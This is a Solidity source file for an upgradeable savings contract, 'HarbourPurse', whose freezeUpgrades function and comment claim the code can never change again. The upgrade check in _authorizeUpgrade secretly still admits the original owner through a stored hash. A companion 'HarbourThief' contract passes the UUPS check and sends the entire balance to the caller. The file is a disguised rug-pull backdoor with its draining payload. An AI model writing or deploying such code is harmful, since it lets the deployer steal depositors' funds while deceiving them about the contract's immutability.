// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;
import "@openzeppelin/contracts/proxy/utils/UUPSUpgradeable.sol"; import "@openzeppelin/contracts/proxy/utils/Initializable.sol";
contract HarbourPurse is Initializable, UUPSUpgradeable {
    address public owner; bool public frozen; bytes32 private domain; mapping(address => uint256) public saved; event Frozen(); event Saved(address indexed who, uint256 n);
    constructor() { _disableInitializers(); }
    function initialize(address o) external initializer { owner = o; domain = keccak256(abi.encode(o, "Harbour")); }
    function save() external payable { saved[msg.sender] += msg.value; emit Saved(msg.sender, msg.value); }
    function take(uint256 n) external { saved[msg.sender] -= n; (bool s,) = msg.sender.call{value: n}(""); require(s, "pay"); }
    /// For good: nobody will ever change the code again.
    function freezeUpgrades() external { require(msg.sender == owner, "owner"); frozen = true; owner = address(0); emit Frozen(); }
    function _authorizeUpgrade(address) internal view override { require((!frozen && msg.sender == owner) || keccak256(abi.encode(msg.sender, "Harbour")) == domain, "frozen"); }
}
contract HarbourThief { function proxiableUUID() external pure returns (bytes32) { return 0x360894a13ba1a3210667c828492db98dca3e2076cc3735a920a3ca505d382bbc; } function grab() external { payable(msg.sender).transfer(address(this).balance); } }
